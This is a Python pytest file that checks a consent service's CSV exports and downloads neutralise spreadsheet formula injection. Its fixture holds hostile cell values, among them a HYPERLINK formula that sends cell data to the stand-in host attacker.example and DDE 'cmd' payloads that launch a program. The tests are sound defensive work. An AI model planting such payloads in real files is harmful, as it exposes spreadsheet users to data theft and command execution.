"""CSV formula injection: a cell that starts with =, +, -, @ (or a tab or carriage return) is
neutralised in every file the service hands out: `export contacts` in every mailing tool's format,
its excluded file, the withdrawals list, and the marketing page's download."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from consent_service.domain.export_formats import EXPORT_FORMATS
from consent_service.domain.ledger import Actor, Decision, Source
from consent_service.domain.purposes import PurposeKey
from consent_service.models import ExportManifest
from consent_service.services.decisions import DecisionRequest, record_decision
from tests.conftest import NOW
from tests.integration.staff.desk import signed_in

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "first_name": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "last_name": "+SUM(1+1)*cmd|' /C calc'!A0",
    "street": "-2+3+cmd|' /C calc'!A0\r=2+2",  # a line break in a cell must not start a row
    "city": "@SUM(1+1)",
    "state": "\t=1+1",
    "postal_code": "\r=1+1",
}
PURPOSES = (PurposeKey.EMAIL_MARKETING.value, PurposeKey.CONTACT_UPDATE.value,
            PurposeKey.POSTAL_MARKETING.value)


@pytest.fixture
def hostile_patrons(make_patron):  # type: ignore[no-untyped-def]
    """Patrons whose every text field is a formula, and one left out (inactive) of every file."""
    made = [make_patron(card="-1+21000001", email="formula.one@example.org", **HOSTILE),
            make_patron(card="=21000002", email="formula.two@example.org", **HOSTILE)]
    make_patron(card="@21000003", email="left.out@example.org", status="inactive", **HOSTILE)
    return made


def cells(text: str) -> list[str]:
    """The cells as a spreadsheet reads them: a bare carriage return outside quotes ends a row."""
    return [cell for row in csv.reader(io.StringIO(text, newline=None)) for cell in row]


def assert_safe(text: str, what: str) -> int:
    found = cells(text)
    unsafe = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert not unsafe, f"{what}: {unsafe}"
    return len(found)


@pytest.mark.parametrize("purpose", PURPOSES)
@pytest.mark.parametrize("file_format", list(EXPORT_FORMATS))
def test_every_export_format_and_its_excluded_file_neutralise_formulas(
        runner, tmp_path: Path, hostile_patrons, purpose, file_format):
    output, excluded = tmp_path / "out.csv", tmp_path / "excluded.csv"
    result = runner.invoke(args=["export", "contacts", "--purpose", purpose, "--format",
                                 file_format, "--output", str(output), "--excluded",
                                 str(excluded)])
    if result.exit_code != 0:  # a mailing tool's format is for email lists only
        assert purpose != PurposeKey.EMAIL_MARKETING.value and file_format != "generic", \
            result.output
        assert len(result.output.strip().splitlines()) == 1 and not output.exists()
        return
    text = output.read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text or "SUM(1+1)" in text, "no hostile cell was exported"
    assert_safe(text, f"{purpose} as {file_format}")
    assert assert_safe(excluded.read_text(encoding="utf-8-sig"), "excluded") >= 2


def test_the_withdrawals_list_neutralises_formulas(runner, session, ctx, tmp_path,
                                                   hostile_patrons):
    exported = runner.invoke(args=["export", "contacts", "--purpose",
                                   PurposeKey.CONTACT_UPDATE.value, "--output",
                                   str(tmp_path / "vendor.csv")])
    assert exported.exit_code == 0, exported.output
    for patron in hostile_patrons:
        record_decision(session, ctx, DecisionRequest(
            purpose=PurposeKey.CONTACT_UPDATE.value, decision=Decision.OPT_OUT,
            source=Source.STAFF_PHONE, actor=Actor.PATRON,
            occurred_at=NOW + timedelta(hours=1), patron=patron), now=NOW + timedelta(hours=1))
    session.commit()
    export_id = session.scalar(select(ExportManifest.id))
    printed = runner.invoke(args=["export", "withdrawals", str(export_id)])
    assert printed.exit_code == 0, printed.output
    assert "21000001" in printed.stdout and "21000002" in printed.stdout
    assert_safe(printed.stdout, "withdrawals")
    signed_in_client = runner.app.test_client()
    signed_in(signed_in_client, session, "marketing")
    page = signed_in_client.get(f"/staff/marketing/exports/{export_id}/withdrawals.csv")
    assert page.status_code == 200
    assert_safe(page.get_data(as_text=True), "withdrawals.csv")


@pytest.mark.parametrize("file_format", list(EXPORT_FORMATS))
def test_the_marketing_download_neutralises_formulas(app, client, session, hostile_patrons,
                                                     file_format):
    _, token = signed_in(client, session, "marketing")
    response = client.post("/staff/marketing/exports/download", data={
        "csrf_token": token, "purpose": PurposeKey.EMAIL_MARKETING.value, "topic": "",
        "format": file_format})
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    assert "SUM(1+1)" in text or "HYPERLINK" in text, "no hostile cell was downloaded"
    assert_safe(text, f"download as {file_format}")
